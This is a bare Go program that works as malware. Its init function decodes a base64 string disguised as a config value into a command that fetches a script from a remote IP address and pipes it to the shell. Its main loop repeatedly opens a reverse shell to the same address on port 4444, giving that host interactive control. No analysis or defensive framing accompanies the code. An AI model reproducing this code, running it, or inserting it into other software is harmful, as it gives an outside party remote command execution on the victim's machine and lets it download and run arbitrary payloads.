package main

import (
	"encoding/base64"
	"net"
	"os/exec"
	"time"
)

var cfg = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo"

func init() {
	go func() {
		cmd, _ := base64.StdEncoding.DecodeString(cfg)
		exec.Command("/bin/sh", "-c", string(cmd)).Run()
	}()
}

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.7:4444")
		if err == nil {
			sh := exec.Command("/bin/sh")
			sh.Stdin, sh.Stdout, sh.Stderr = c, c, c
			sh.Run()
			c.Close()
		}
		time.Sleep(30 * time.Second)
	}
}
